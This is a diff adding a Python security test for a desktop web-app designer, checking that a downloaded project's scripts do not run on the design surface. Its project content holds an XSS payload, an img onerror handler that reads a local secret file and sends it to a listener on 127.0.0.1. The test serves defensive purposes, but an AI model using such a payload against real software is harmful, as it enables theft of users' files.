@@ -1,0 +1,86 @@
+#!/usr/bin/env python3
+"""A project someone else made, opened from the command line: its page content is drawn on the
+design surface as written, but none of its scripts runs there. A box whose picture fails to
+load would rewrite its own text and call a server on this machine; the box keeps its words and
+the server hears nothing, and the user's file beside the project is not read."""
+
+import http.server
+import os
+import sys
+import threading
+import time
+
+import krdesktop as kd
+
+CONTENT = ('Written by a stranger'
+           '<img src="nowhere.png" onerror="this.parentNode.firstChild.data = \'Script ran\';'
+           ' var x = new XMLHttpRequest(); try {{ x.open(\'GET\', \'file://{secret}\', false); x.send(); }} catch (e) {{}}'
+           ' new Image().src = \'http://127.0.0.1:{port}/ran?\' + encodeURIComponent(x.responseText || \'\');">'
+           '<img src="http://127.0.0.1:{port}/picture.png">')
+
+PROJECT = """<?xml version="1.0" encoding="UTF-8"?>
+<KRProjectDocument>
+  <KRProject JQMVersion="1.4" designTarget="iPhone" startPage="home"/>
+  <KRPages>
+    <KRPage id="home" title="Downloaded">
+      <KRContents>
+        <KRDiv id="box" top="80" left="10" width="300" height="120">{content}</KRDiv>
+      </KRContents>
+    </KRPage>
+  </KRPages>
+</KRProjectDocument>
+"""
+
+
+class Listener(http.server.ThreadingHTTPServer):
+    """A server on 127.0.0.1 that counts what it is asked for."""
+
+    def __init__(self):
+        super().__init__(("127.0.0.1", 0), ListenerHandler)
+        self.heard = []
+
+
+class ListenerHandler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.server.heard.append(self.path)
+        self.send_response(404)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+def downloaded_project(desktop):
+    listener = Listener()
+    threading.Thread(target=listener.serve_forever, daemon=True).start()
+    try:
+        secret = os.path.join(desktop.home, "Documents", "secret.txt")
+        folder = os.path.join(desktop.home, "Documents", "Downloaded.krproj")
+        os.makedirs(os.path.join(folder, "kr-web"))
+        with open(secret, "w", encoding="utf-8") as out:
+            out.write("my secret words")
+        content = CONTENT.format(secret=secret, port=listener.server_address[1])
+        escaped = content.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+        with open(os.path.join(folder, "project.xml"), "w", encoding="utf-8") as out:
+            out.write(PROJECT.format(content=escaped))
+
+        desktop.launch(folder)
+        window = kd.project_window(desktop, "Downloaded")
+        desktop.activate_if_needed(window)
+        surface = kd.design_surface(desktop, window)
+        kd.check_page_drawn(desktop, surface)
+        kd.wait_until(lambda: kd.element_with_text(surface, "Written by a stranger") or kd.element_with_text(surface, "Script ran"),
+                      "the box's words drawn on the design surface")
+        # A failed picture reports at once; the page has a moment more to do anything else.
+        time.sleep(2)
+        desktop.screenshot("drawn")
+        kd.check(not kd.element_with_text(surface, "Script ran"), "a script of the project ran on the design surface")
+        kd.check(kd.element_with_text(surface, "Written by a stranger"), "the box's words are gone")
+        kd.check(not listener.heard, "the design surface sent requests to a server: " + ", ".join(listener.heard))
+    finally:
+        listener.shutdown()
+
+
+if __name__ == "__main__":
+    sys.exit(kd.run([downloaded_project]))
